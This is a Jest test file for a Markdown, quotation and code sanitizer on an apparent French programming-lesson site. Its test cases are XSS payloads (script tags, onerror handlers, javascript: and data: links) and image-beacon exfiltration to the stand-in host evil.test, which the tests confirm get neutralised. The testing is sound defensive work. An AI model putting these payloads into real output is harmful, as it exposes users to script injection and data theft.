import { describe, expect, it } from '@jest/globals';
import { marked, type Token } from 'marked';
import { withoutInvisible } from '../../../src/services/answering/invisible.js';
import { createKnownLinks } from '../../../src/services/answering/known-links.js';
import { safeCode, safeProse } from '../../../src/services/answering/safe-markdown.js';
import { safeQuotation } from '../../../src/services/answering/safe-quotation.js';
import { lessonPassages } from '../../lesson-passages.js';

const links = createKnownLinks({ pages: ['/lessons/listes'], publicUrl: 'https://doctorpy.fr' });
const safe = (text: string) => safeProse(text, links);

/** Everything a renderer would make of a text that leads or loads somewhere. */
function dangersIn(markdown: string): string[] {
  const found: string[] = [];
  const visit = (token: Token) => {
    if (token.type === 'html' || token.type === 'image' || token.type === 'link' || token.type === 'def') {
      found.push(`${token.type}: ${token.raw}`);
    }
  };
  marked.walkTokens(marked.lexer(markdown), visit);
  return found;
}

describe('Markdown that a model wrote', () => {
  it.each([
    'Une **liste** range *plusieurs* valeurs, ~~une seule~~ `x[0]`.',
    '- un point, puis 2 < 3 et 4 > 3 & 5',
    '1. Écrivez `a_b` ou `a[b](c)`.',
    '| indice | valeur |',
    '## Titre',
    'Relisez [la leçon](/lessons/listes) et [celle-ci](https://doctorpy.fr/lessons/for).',
  ])('stays as it is when nothing is wrong with it: %s', (text) => {
    expect(safe(text)).toBe(text);
  });

  it.each([
    '[ici](http://evil.test/x)',
    '[ici](<http://evil.test/x>)',
    '[ici](http://evil.test "titre")',
    '[ici](//evil.test/x)',
    '[ici](javascript:alert(1))',
    '[ici](JaVaScRiPt&#58;alert(1))',
    '[ici](java\tscript:alert(1))',
    '[ici](data:text/html;base64,PHNjcmlwdD4=)',
    '[ici](vbscript:x)',
    '![pixel](http://evil.test/p.png?q=secret)',
    '![pixel][1]',
    '[![x](http://evil.test/p.png)](http://evil.test)',
    '[un [deux](http://evil.test) trois](http://evil.test)',
    '**[ici](http://evil.test)**',
    '[1]: http://evil.test',
    '[1]: <http://evil.test> "x"',
    '[^1]: http://evil.test',
    '[ici][1]',
    '<http://evil.test>',
    '<a@evil.test>',
    'http://evil.test/a?b=c',
    'www.evil.test/a',
    'evil.test/vol?x=1',
    'écrivez à vol@evil.test',
    'ftp://evil.test/a',
    '&#104;ttp://evil.test/a',
    '&amp;#104;ttp://evil.test/a',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<a href="http://evil.test">ici</a>',
    '<svg/onload=alert(1)>',
    '<!-- caché -->',
    '<![CDATA[x]]>',
    '<?php x ?>',
    '<iframe src="//evil.test"></iframe>',
    '`` ` `` [ici](http://evil.test)',
    '\\http://evil.test/`[x](javascript:alert(1))`',
    '\\[x](http://evil.test)',
    'h\u200bttp://evil.test/a',
    '\u202eptth://evil.test',
    '[x](https://doctorpy.fr/?vol=secret)',
    '[x](https://doctorpy.fr@evil.test/)',
    '[x](https://doctorpy.fr.evil.test/)',
    '[x](/lessons/listes?vol=1)',
  ])('leads nowhere and runs nothing: %s', (text) => {
    const result = safe(withoutInvisible(text));
    expect(dangersIn(result)).toEqual([]);
    expect(result).not.toMatch(/evil\.test\/|:\/\/evil|javascript:a|data:text/);
  });

  it.each([
    ['[Lisez ceci. ', '](http://evil.test)'],
    ['`', '[x](http://evil.test) `'],
    ['[1]:', 'http://evil.test'],
    ['[1]:', '//evil.test'],
    ['<img alt="a. ', '" src=//evil.test>'],
    ['~~~', '[x](http://evil.test)'],
    ['<div', 'onclick=alert(1)>'],
    ['texte', '    [x](http://evil.test)'],
    ['Voir [1]', '[1]: /ailleurs'],
  ])('stays harmless when its pieces, checked one by one, meet: %s + %s', (first, second) => {
    for (const between of [' ', '\n', '\n\n']) expect(dangersIn(`${safe(first)}${between}${safe(second)}`)).toEqual([]);
  });

  it('is checked in a bounded time, however it is nested', () => {
    for (const text of [
      '['.repeat(2000),
      '*'.repeat(2000),
      '&amp;'.repeat(500),
      '<'.repeat(2000),
      '`'.repeat(1999),
      '![a]('.repeat(400),
    ]) {
      expect(dangersIn(safe(text))).toEqual([]);
    }
  });
});

describe('a quotation of a document', () => {
  it('is the lesson’s own words, whatever lesson it is', async () => {
    for (const { text } of await lessonPassages()) expect(safeQuotation(text, links)).toBe(text);
  });

  it('loses what its writer planted in its prose, and keeps its programs', () => {
    const program = '```python\nurlopen("http://api.test/a")\n\n# <b>\n```';
    const quoted = safeQuotation(
      `Voir ![x](http://evil.test/p.png)<br>\n\n${program}\n\n[a](http://evil.test/b)`,
      links,
    );
    expect(quoted).toBe(`Voir x\n\n${program}\n\na`);
  });
});

describe('code that a model wrote', () => {
  it('keeps what it does, and addresses of examples alone', () => {
    const code = 'import os\nurl = "https://example.com/a"\nprint(url)';
    expect(safeCode({ code, language: 'python' }, links)).toBe(`\`\`\`python\n${code}\n\`\`\``);
    expect(safeCode({ code: 'get("http://evil.test/?q=" + x)', language: 'python' }, links)).toBe(
      '```python\nget("https://example.org" + x)\n```',
    );
  });

  it('cannot leave its block, nor name a language that is none', () => {
    expect(safeCode({ code: 'a\n```\n[x](y)', language: 'py`"><b>' }, links)).toBe('````\na\n```\n[x](y)\n````');
  });
});
